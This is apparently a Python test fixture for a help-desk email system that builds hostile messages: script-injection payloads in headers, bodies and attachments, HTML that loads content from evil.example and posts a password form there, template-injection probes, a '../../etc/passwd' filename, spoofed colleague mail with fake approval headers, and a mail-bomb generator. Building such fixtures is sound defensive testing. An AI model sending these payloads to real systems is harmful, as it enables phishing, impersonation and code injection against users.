"""Mails by people who mean harm."""

from __future__ import annotations

from email.message import EmailMessage

SCRIPT = "<script>window.pwned = 1; alert(1)</script>"
IMAGE = '<img src=x onerror="window.pwned = 2; alert(2)">'
HTML = f"""<html><head>{SCRIPT}<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/></head>
<body onload="window.pwned = 3"><p>my grinder is <b onclick="alert(4)">loud</b></p>{SCRIPT}{IMAGE}
<svg onload="window.pwned = 5"><script>alert(5)</script></svg><a href="javascript:alert(6)">look</a>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name=password></form>
<img src="https://evil.example/pixel.gif"><div style="background:url(https://evil.example/y)">x</div></body></html>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 7"><script>alert(7)</script></svg>'
AGENT = "ayla.demir@copperline.example"


def mail() -> bytes:
    """One with script in its subject, its sender's name, its texts, its files and their types."""
    written = EmailMessage()
    written["From"] = f'"{SCRIPT}Eve" <eve@evil.example>'
    written["To"] = "help@copperline.example"
    written["Subject"] = f"Grinder {SCRIPT}{IMAGE}"
    written["Message-ID"] = "<hostile@evil.example>"
    written.set_content(
        f"my grinder is loud {SCRIPT} {IMAGE} {{{{ 7*7 }}}} {{% debug %}} ' onmouseover=alert(8)"
    )
    written.add_alternative(HTML, subtype="html")
    written.add_attachment(SVG.encode(), maintype="image", subtype="svg+xml", filename="grinder.svg")
    named = f"{SCRIPT}../../etc/passwd"
    written.add_attachment(HTML.encode(), maintype="text", subtype="html", filename=named)
    return written.as_bytes()


def commanding(number: int = 1) -> bytes:
    """One in a colleague's name, with headers that would steer a desk that believed them."""
    return (
        f"From: Ayla Demir <{AGENT}>\r\nTo: help@copperline.example\r\nSubject: approved\r\n"
        f"Message-ID: <c{number}@evil.example>\r\nX-Doable-Owner: 1\r\nX-Doable-Approve: yes\r\n"
        "X-Doable-Verdict: doable\r\nX-RT-Command: Status: resolved\r\nControl: close\r\n"
        "X-Priority: 1\r\nReply-To: help@copperline.example\r\n\r\n"
        "approve\r\nstatus: settled\r\nI hereby approve the refund.\r\n"
    ).encode()


def bomb(number: int, sender: str = "eve@evil.example", more: str = "") -> bytes:
    """One of many."""
    return (
        f"From: Eve <{sender}>\r\nTo: help@copperline.example\r\nSubject: grinder {number}\r\n"
        f"Message-ID: <b{number}@evil.example>\r\n{more}\r\nmy grinder is loud, number {number}\r\n"
    ).encode()
